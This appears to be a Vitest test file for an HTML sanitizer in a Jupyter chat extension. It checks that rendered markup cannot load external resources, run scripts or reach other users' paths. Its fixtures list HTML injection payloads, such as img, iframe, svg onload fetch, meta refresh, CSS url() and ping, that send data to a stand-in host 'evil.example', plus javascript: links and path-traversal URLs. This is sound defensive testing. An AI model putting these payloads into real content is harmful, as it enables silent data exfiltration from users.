// @vitest-environment jsdom
// jsdom, not happy-dom: DOMPurify needs a standards-conforming HTML parser.
import { describe, expect, it } from 'vitest';

import { SafeHtml, mayLoad } from '../safehtml';

const ORIGIN = 'http://127.0.0.1:8888';
const SERVER = `${ORIGIN}/user/alice/`;
const safe = new SafeHtml({ server: SERVER, base: `${ORIGIN}/user/alice/lab` });
const EVIL = 'https://evil.example/k?d=secret';

function render(html: string): HTMLElement {
  const host = document.createElement('div');
  host.innerHTML = safe.sanitize(html);
  return host;
}

/** Every URL the sanitized markup would make a browser fetch without a click. */
function fetches(host: HTMLElement): string[] {
  const urls: string[] = [];
  for (const element of Array.from(host.querySelectorAll('*'))) {
    for (const name of ['src', 'srcset', 'poster', 'data', 'background', 'action', 'ping']) {
      const value = element.getAttribute(name);
      if (value) {
        urls.push(`${element.tagName.toLowerCase()}[${name}]=${value}`);
      }
    }
    if (element.tagName !== 'A' && element.getAttribute('href')) {
      urls.push(`${element.tagName.toLowerCase()}[href]`);
    }
    const style = element.getAttribute('style') ?? '';
    if (/url\(|@import/i.test(style)) {
      urls.push(`style=${style}`);
    }
  }
  return urls;
}

describe('SafeHtml', () => {
  it.each([
    ['img', `<p>look <img src="${EVIL}" alt="chart"></p>`],
    ['srcset', `<img srcset="${EVIL} 2x">`],
    ['picture', `<picture><source srcset="${EVIL}"><img src="${EVIL}"></picture>`],
    ['iframe', `<iframe src="${EVIL}"></iframe>`],
    ['object', `<object data="${EVIL}"></object>`],
    ['embed', `<embed src="${EVIL}">`],
    ['svg onload', `<svg onload="fetch('${EVIL}')"><circle r="4"/></svg>`],
    ['svg image', `<svg><image href="${EVIL}"/></svg>`],
    ['video poster', `<video poster="${EVIL}" src="${EVIL}"></video>`],
    ['audio', `<audio src="${EVIL}"></audio>`],
    ['link', `<link rel="stylesheet" href="${EVIL}">`],
    ['meta refresh', `<meta http-equiv="refresh" content="0;url=${EVIL}">`],
    ['base', `<base href="${EVIL}">`],
    ['form', `<form action="${EVIL}"><input name="q"><button>go</button></form>`],
    ['input image', `<input type="image" src="${EVIL}">`],
    ['style url()', `<p style="background:url(${EVIL})">text</p>`],
    ['style tag', `<style>@import url(${EVIL}); body{background:url(${EVIL})}</style>`],
    ['table background', `<table background="${EVIL}"><tr><td>x</td></tr></table>`],
    ['ping', `<a href="https://example.com" ping="${EVIL}">x</a>`]
  ])('%s: nothing loads', (_name, html) => {
    const host = render(html);
    expect(fetches(host)).toEqual([]);
    expect(
      host.querySelector('style, link, meta, base, form, iframe, object, embed, svg, video')
    ).toBeNull();
  });

  it('shows a blocked image as a link with its URL and alt text', () => {
    const host = render(`<p>before <img src="${EVIL}" alt="chart"> after</p>`);
    const link = host.querySelector('a.jp-kchat-blocked')!;
    expect(link.getAttribute('href')).toBe(EVIL);
    expect(link.textContent).toBe(`image "chart": ${EVIL}`);
    expect(link.getAttribute('target')).toBe('_blank');
    expect(link.getAttribute('rel')).toBe('noopener noreferrer');
    expect(host.textContent).toContain('before');
    expect(host.textContent).toContain('after');
  });

  it('offers each URL of a picture once', () => {
    const host = render(
      `<picture><source srcset="${EVIL}&s 1x"><img src="${EVIL}&i" alt="pic"></picture> text`
    );
    const links = Array.from(host.querySelectorAll('a.jp-kchat-blocked'), a => a.textContent);
    expect(links).toEqual([`source: ${EVIL}&s`, `image "pic": ${EVIL}&i`]);
    expect(host.textContent).toContain('text');
  });

  it('offers the resources of frames and SVG as links', () => {
    const frame = render(`<iframe src="${EVIL}"></iframe>`).querySelector('a')!;
    expect(frame.textContent).toBe(`iframe: ${EVIL}`);
    expect(frame.getAttribute('rel')).toBe('noopener noreferrer');
    expect(frame.getAttribute('target')).toBe('_blank');
    expect(
      render(`<svg><image href="${EVIL}"/></svg>`).querySelector('a')?.getAttribute('href')
    ).toBe(EVIL);
  });

  it('keeps images of the Jupyter server and data: images', () => {
    const own = render('<img src="/user/alice/files/plot.png" alt="plot">').querySelector('img');
    expect(own?.getAttribute('src')).toBe('/user/alice/files/plot.png');
    const data = 'data:image/png;base64,iVBORw0KGgo=';
    expect(render(`<img src="${data}">`).querySelector('img')?.getAttribute('src')).toBe(data);
    expect(mayLoad('http://127.0.0.1:8889/user/alice/x.png', SERVER, SERVER)).toBe(false);
    expect(mayLoad('//evil.example/x.png', SERVER, SERVER)).toBe(false);
    expect(mayLoad('data:text/html,<script>', SERVER, SERVER)).toBe(false);
  });

  it('keeps out the rest of the origin: the hub and other users', () => {
    for (const url of [
      '/hub/logout',
      '/user/bob/files/x.png',
      '/user/alice/../bob/x.png',
      '/user/alice%2f..%2fbob/x'
    ]) {
      expect(mayLoad(url, SERVER, SERVER), url).toBe(false);
      expect(render(`<img src="${url}">`).querySelector('img'), url).toBeNull();
    }
    expect(mayLoad('/user/alice/files/ok.png', SERVER, SERVER)).toBe(true);
  });

  it("loads only the server's files and static assets: a GET to logout would end the session", () => {
    for (const url of ['logout', '/user/alice/logout', '/user/alice/api/kchat/conversations']) {
      expect(mayLoad(url, SERVER, `${ORIGIN}/user/alice/lab`), url).toBe(false);
      const host = render(`<img src="${url}" alt="x">`);
      expect(host.querySelector('img'), url).toBeNull();
      expect(host.querySelector('a.jp-kchat-blocked')?.textContent).toBe(`image "x": ${url}`);
    }
    expect(mayLoad('static/favicons/favicon.ico', SERVER, `${ORIGIN}/user/alice/lab`)).toBe(true);
  });

  it('neutralizes javascript: links and scripts, keeping their text', () => {
    const host = render(
      '<a href="javascript:alert(1)">click me</a><script>alert(1)</script>' +
        '<a href=" JaVaScRiPt:alert(1)">again</a><a href="data:text/html,x">data</a>'
    );
    expect(host.querySelectorAll('a[href]')).toHaveLength(0);
    expect(host.querySelector('script')).toBeNull();
    expect(host.textContent).toBe('click meagaindata');
  });

  it('opens links in a new tab without the opener or the referrer', () => {
    const link = render(
      '<a href="https://kubernetes.io/docs" target="_self">docs</a>'
    ).querySelector('a')!;
    expect(link.getAttribute('target')).toBe('_blank');
    expect(link.getAttribute('rel')).toBe('noopener noreferrer');
  });

  it('keeps highlighting classes and table alignment, drops page classes and styles', () => {
    const host = render(
      '<pre><code class="language-python"><span class="tok-keyword">import</span></code></pre>' +
        '<table><tr><td style="text-align: center">x</td></tr></table>' +
        '<div class="jp-Dialog lm-Widget" style="position:fixed;inset:0">cover</div>' +
        '<span data-commandlinker-command="notebook:run-all-cells">run</span>'
    );
    expect(host.querySelector('code')?.className).toBe('language-python');
    expect(host.querySelector('span')?.className).toBe('tok-keyword');
    expect(host.querySelector('td')?.getAttribute('style')).toBe('text-align: center');
    const cover = Array.from(host.querySelectorAll('div')).find(d => d.textContent === 'cover')!;
    expect(cover.hasAttribute('class')).toBe(false);
    expect(cover.hasAttribute('style')).toBe(false);
    expect(host.querySelector('[data-commandlinker-command]')).toBeNull();
  });
});
